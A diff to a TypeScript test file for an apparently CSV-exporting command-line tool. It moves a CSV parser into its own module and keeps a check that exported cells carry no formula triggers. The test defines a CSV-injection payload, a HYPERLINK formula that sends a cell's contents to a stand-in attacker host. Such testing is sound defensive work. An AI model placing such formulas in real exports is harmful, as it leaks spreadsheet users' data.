@@ -8,43 +8,10 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { cli } from '../cli/cliHarness';
+import { cells } from './csvCells';
 
 const PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 let dir = '';
-
-/** Cells of a CSV text (RFC 4180), failing on a bare LF or CR outside quotes and on a last record without CRLF. */
-const cells = (text: string): string[][] => {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  let i = 0;
-  while (i < text.length) {
-    const c = text[i] as string;
-    const next = text[i + 1];
-    i++;
-    if (quoted) {
-      if (c === '"' && next === '"') {
-        cell += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else cell += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') {
-      row.push(cell);
-      cell = '';
-    } else if (c === '\r' && next === '\n') {
-      row.push(cell);
-      rows.push(row);
-      row = [];
-      cell = '';
-      i++;
-    } else if (c === '\n' || c === '\r') throw new Error(`bare ${JSON.stringify(c)} at offset ${i - 1}`);
-    else cell += c;
-  }
-  if (cell !== '' || row.length) throw new Error('the last record has no CRLF');
-  return rows;
-};
 
 /** No cell may start (after invisible or blank characters) with a formula trigger, unless it is a plain number. */
 const expectInert = (table: string[][]): void => {
